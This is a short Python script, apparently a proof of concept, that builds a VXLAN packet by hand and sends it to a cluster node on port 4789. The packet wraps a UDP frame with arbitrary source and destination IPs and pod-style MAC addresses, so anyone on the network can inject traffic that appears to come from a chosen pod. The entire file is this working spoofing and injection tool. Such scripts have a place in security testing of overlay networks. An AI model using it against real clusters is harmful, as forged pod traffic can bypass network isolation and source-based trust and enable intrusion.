"""Sends one VXLAN packet as anybody on the wire can: vxlan.py NODE VNID FROM TO TEXT.

The inner frame is UDP to port 9999 with the MAC addresses that pods of these addresses have."""
import socket
import struct
import sys


def checksum(data):
    total = sum(struct.unpack(f"!{len(data) // 2}H", data))
    total = (total & 0xFFFF) + (total >> 16)
    return ~(total + (total >> 16)) & 0xFFFF


node, vnid, source, target, text = sys.argv[1:6]
src, dst = socket.inet_aton(source), socket.inet_aton(target)
udp = struct.pack("!HHHH", 9998, 9999, 8 + len(text), 0) + text.encode()
ip = struct.pack("!BBHHHBBH4s4s", 0x45, 0, 20 + len(udp), 1, 0, 64, 17, 0, src, dst)
ip = ip[:10] + struct.pack("!H", checksum(ip)) + ip[12:]
frame = b"\x0a\x58" + dst + b"\x0a\x58" + src + b"\x08\x00" + ip + udp
vxlan = struct.pack("!II", 0x08000000, int(vnid) << 8)
socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(vxlan + frame, (node, 4789))
